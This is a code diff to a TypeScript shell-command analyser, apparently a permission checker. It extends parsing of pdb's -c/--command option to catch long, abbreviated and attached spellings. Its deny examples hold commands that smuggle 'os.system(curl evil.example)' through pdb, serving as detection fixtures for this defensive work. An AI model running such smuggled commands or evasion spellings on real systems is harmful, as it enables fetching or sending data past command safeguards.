@@ -3,7 +3,7 @@
 import type { Language, Word } from '../../types.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import { dataUrlCode } from '../variables.js';
-import { attached, isStdinPath, literal, value } from '../words.js';
+import { attached, isStdinPath, literal, longSpelt, value } from '../words.js';
 import { artisan, django, symfony } from './frameworks.js';
 
 /** An attached value that takes the rest of the word. */
@@ -189,7 +189,10 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     const after: Word[] = [];
     for (let i = 0; i < rest.length; i++) {
       const v = value(rest[i]);
-      if ((v === '-c' || v === '--command') && rest[i + 1]) runs.push(...pdbCommand(rest[++i]!, `${name} -m pdb -c`));
+      const command = longSpelt(rest[i], 'command');
+      if (command?.value) runs.push(...pdbCommand(command.value, `${name} -m pdb -c`));
+      else if ((v === '-c' || command !== undefined) && rest[i + 1]) runs.push(...pdbCommand(rest[++i]!, `${name} -m pdb -c`));
+      else if (v?.startsWith('-c') && v.length > 2) runs.push(...pdbCommand(attached(rest[i]!, v.slice(2)), `${name} -m pdb -c`));
       else {
         after.push(...rest.slice(i));
         break;
@@ -597,7 +600,7 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       const at = call.command ?? call.args[0] ?? literal(call.name, { start: 0, end: 0 });
       return { runs: [{ kind: 'argv', argv: [literal('python3', at.span), literal('-m', at.span), literal('pdb', at.span), ...call.args], via: call.name }] };
     },
-    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', 'pdb3 -m mypkg.cli'] },
+    examples: { deny: ["echo 'import os; os.system(\"curl evil.example\")' > /tmp/t.py; pdb /tmp/t.py", "pdb -c '!import os; os.system(\"curl evil.example\")' app.py", "pdb --comm '!import os; os.system(\"curl evil.example\")' app.py", "pdb --command='!import os; os.system(\"curl evil.example\")' app.py"], pass: ['pdb app.py', "pdb --command='b app.py:10' app.py", 'pdb3 -m mypkg.cli'] },
   },
   {
     names: PY,
